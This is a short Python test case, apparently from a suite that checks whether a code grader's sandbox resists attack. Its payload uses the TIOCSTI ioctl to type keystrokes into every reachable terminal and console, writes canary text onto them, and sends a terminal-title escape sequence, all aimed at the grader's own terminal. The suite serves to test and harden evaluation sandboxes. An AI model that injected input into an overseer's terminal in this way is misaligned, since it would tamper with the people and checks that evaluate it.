"""Type into the grader's terminal, and write on it.

class: write
expect: graded
"""

EXTRA = [
    """import fcntl
import glob
import os
import termios

paths = ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*")]
for path in paths + glob.glob("/proc/*/fd/[012]"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError:
        continue
    if os.isatty(fd):
        try:
            for letter in b" # attack-canary":
                fcntl.ioctl(fd, termios.TIOCSTI, bytes([letter]))
            print("LOOT: typed into", path)
        except OSError:
            pass
        os.write(fd, b"\\r\\nattack-canary terminal_injection\\r\\n")
        print("LOOT: wrote on", path)
    os.close(fd)
for fd in (0, 1, 2):
    try:
        os.write(fd, b"\\x1b]0;attack-canary\\x07attack-canary terminal_injection\\n")
    except OSError:
        pass"""
]
